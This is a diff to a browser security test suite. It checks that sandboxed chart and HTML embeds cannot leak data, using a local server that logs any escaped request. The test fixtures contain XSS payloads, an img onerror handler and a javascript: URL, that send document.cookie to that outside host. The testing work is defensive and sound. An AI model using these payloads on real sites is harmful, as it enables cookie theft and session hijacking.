@@ -1,4 +1,6 @@
-import { beforeAll, describe, expect, test } from "vitest";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import type { BrowserContext, Page } from "playwright-core";
 import { init } from "@/sdk";
 import { adminSession, trpc } from "../test/helpers/sessions";
@@ -11,8 +13,17 @@ beforeAll(async () => {
   cookie = await adminSession(stage.server.url);
 });
 
-// Where the payloads would send what they stole; nothing may ever ask it for anything.
-const OUTSIDE = "http://127.0.0.2:9";
+// Where the payloads would send what they stole: a real server on another origin, which must
+// never be asked for anything. (The browser reports requests the CSP then blocks, so the
+// page's request log alone cannot tell an attempt from a request that left.)
+const outsideHits: string[] = [];
+const outside = http.createServer((req, res) => {
+  outsideHits.push(req.url ?? "");
+  res.writeHead(204).end();
+});
+await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
+afterAll(() => new Promise<void>((resolve) => outside.close(() => resolve())));
+const OUTSIDE = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
 const run = (tag: string) => `top.__xss='${tag}';parent.postMessage({type:'size',height:-5},'*');fetch('${OUTSIDE}/${tag}?c='+document.cookie)`;
 const img = (tag: string) => `<img src=x onerror="${run(tag)}">`;
 const js = (tag: string) => `javascript:${run(tag)}`;
@@ -64,7 +75,7 @@ try { if (document.cookie.length >= 0) reached.push('cookie'); } catch (e) {}
 try { localStorage.setItem('x', '1'); reached.push('storage'); } catch (e) {}
 fetch('${OUTSIDE}/fetch').catch(function () {});
 fetch('/api/trpc/keys.list').then(function () { top.__xss = 'trpc'; }, function () {});
-try { new WebSocket('ws://127.0.0.2:9/ws'); } catch (e) {}
+try { new WebSocket('ws://${OUTSIDE.slice("http://".length)}/ws'); } catch (e) {}
 try { window.open('${OUTSIDE}/open'); } catch (e) {}
 try { document.getElementById('f').submit(); } catch (e) {}
 document.getElementById('out').textContent = 'script ran; reached: ' + (reached.join(',') || 'nothing');
@@ -111,8 +122,12 @@ async function drawHoverAndClick({ page }: Watch) {
   const echarts = page.frameLocator(`${block("charts/evil.echarts.json")} iframe`);
   const plotly = page.frameLocator(`${block("charts/evil.plotly.json")} iframe`);
   const html = page.frameLocator(`${block("evil.html")} iframe`).frameLocator("iframe");
+  // Media render once scrolled near, as a person would reach them.
+  await page.locator(block("charts/evil.echarts.json")).scrollIntoViewIfNeeded();
   await echarts.locator("canvas").first().waitFor({ timeout: 30_000 });
+  await page.locator(block("charts/evil.plotly.json")).scrollIntoViewIfNeeded();
   await plotly.locator("svg.main-svg").first().waitFor({ timeout: 30_000 });
+  await page.locator(block("evil.html")).scrollIntoViewIfNeeded();
   await expect.poll(() => plotly.locator(".scatterlayer .trace path").count(), { timeout: 10_000 }).toBeGreaterThan(0);
   await expect.poll(() => html.locator("#out").innerText(), { timeout: 10_000 }).toBe("script ran; reached: nothing");
 
@@ -141,7 +156,9 @@ async function expectNothingEscaped(w: Watch, origin: string, url: string) {
   const { page } = w;
   expect(page.url()).toBe(url);
   expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss ?? null)).toBeNull();
-  expect(w.requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith("data:") && !u.startsWith("blob:") && u !== "about:srcdoc")).toEqual([]);
+  expect(outsideHits).toEqual([]);
+  // Nothing asked for anywhere else either (attempts at the outside server are refused above).
+  expect(w.requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith(`${OUTSIDE}/`) && !u.startsWith("data:") && !u.startsWith("blob:") && u !== "about:srcdoc")).toEqual([]);
   expect(w.dialogs).toEqual([]);
   expect(w.popups).toEqual([]);
   expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
